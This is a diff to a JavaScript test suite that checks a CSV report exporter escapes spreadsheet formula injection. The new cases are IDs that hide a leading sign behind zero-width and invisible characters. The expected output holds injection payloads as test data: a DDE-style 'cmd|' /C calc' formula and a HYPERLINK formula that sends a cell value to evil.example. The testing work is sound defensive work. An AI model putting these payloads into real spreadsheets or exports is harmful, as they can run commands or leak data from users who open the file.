@@ -130,13 +130,14 @@ describe('reportCsv', () => {
     expect(rows[0]).toBe(`load_sensitive_servers,'+chip,'=2+5*cmd|' /C calc'!A0,"'=HYPERLINK(""http://evil.example/?x=""&A1,""edge-07"")",,,n,600`);
     expect(rows[1]).toMatch(/,pearson_r,-0\.5$/);
     expect(rows[2]).toMatch(/,slope_ms_per_unit,-1\.25$/);
-    for (const id of ['@srv', '-srv', '\tsrv', ' =HYPERLINK("x")', '\u00a0=1+1', '\ufeff=1+1', '\uff1d1+1', '\n=1+1', 'edge-01', 'a=b']) {
+    for (const id of ['@srv', '-srv', '\tsrv', ' =HYPERLINK("x")', '\u00a0=1+1', '\ufeff=1+1', '\uff1d1+1', '\n=1+1', '\u200b=4+4', '\u2060\u200e+1', 'edge-01', 'a=b', '\u200bedge']) {
       const csv = reportCsv({ ...report, sensitive: [{ ...(report as { sensitive: object[] }).sensitive[0], edge_server_id: id }] } as never);
       const line = csv.split('\n').findIndex((l) => l.startsWith('load_sensitive_servers'));
       // The id's cell: quoted when it holds a quote, a comma or a line break.
       const rest = csv.split('\n').slice(line).join('\n').slice('load_sensitive_servers,\'+chip,'.length);
       const afterModel = rest.slice(rest.indexOf(',', rest.indexOf("!A0")) + 1);
-      const want = ['edge-01', 'a=b'].includes(id) ? id : `'${id}`;
+      // A zero-width space or another invisible format character before the sign too (a trial: ZWSP then = passed).
+      const want = ['edge-01', 'a=b', '\u200bedge'].includes(id) ? id : `'${id}`;
       expect(afterModel.startsWith(/[",\n\r]/.test(want) ? `"${want.replaceAll('"', '""')}",` : `${want},`), JSON.stringify(id)).toBe(true);
     }
   });
